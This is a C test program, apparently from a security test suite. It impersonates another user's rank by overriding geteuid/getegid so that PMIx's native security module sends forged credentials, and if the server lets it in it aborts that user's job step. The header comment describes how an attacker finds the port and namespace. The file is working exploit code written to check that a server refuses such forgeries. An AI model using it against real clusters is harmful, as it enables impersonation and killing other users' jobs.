/* pmix_forge: a local user posing as a rank of another user's step.  It
 * connects to the agent's PMIx server with the PMIX_* variables of a real
 * rank (the test hands them over; an attacker reads the port off
 * /proc/net/tcp and guesses the namespace) and claims the uid and gid in
 * PHX_FORGE_UID and PHX_FORGE_GID: PMIx's "native" security module sends
 * geteuid() and getegid() over TCP, and this program defines both.  If the
 * server lets it in, it aborts the step.  Prints "connected" or
 * "refused: REASON"; exits 0 either way, 2 on bad use. */
#include <pmix.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static unsigned long forged(const char *var, unsigned long real)
{
    const char *s = getenv(var);
    return s && *s ? strtoul(s, NULL, 10) : real;
}

/* Interposed on libc's for libpmix (the executable's symbols come first). */
uid_t geteuid(void)
{
    return (uid_t)forged("PHX_FORGE_UID", (unsigned long)getuid());
}

gid_t getegid(void)
{
    return (gid_t)forged("PHX_FORGE_GID", (unsigned long)getgid());
}

int main(void)
{
    if (!getenv("PMIX_NAMESPACE")) {
        fprintf(stderr, "pmix_forge: PMIX_NAMESPACE is not set\n");
        return 2;
    }
    pmix_proc_t me;
    pmix_status_t rc = PMIx_Init(&me, NULL, 0);
    if (rc != PMIX_SUCCESS) {
        printf("refused: %s\n", PMIx_Error_string(rc));
        return 0;
    }
    printf("connected as %s.%u\n", me.nspace, me.rank);
    fflush(stdout);
    PMIx_Abort(7, "forged abort", NULL, 0);
    PMIx_Finalize(NULL, 0);
    return 0;
}
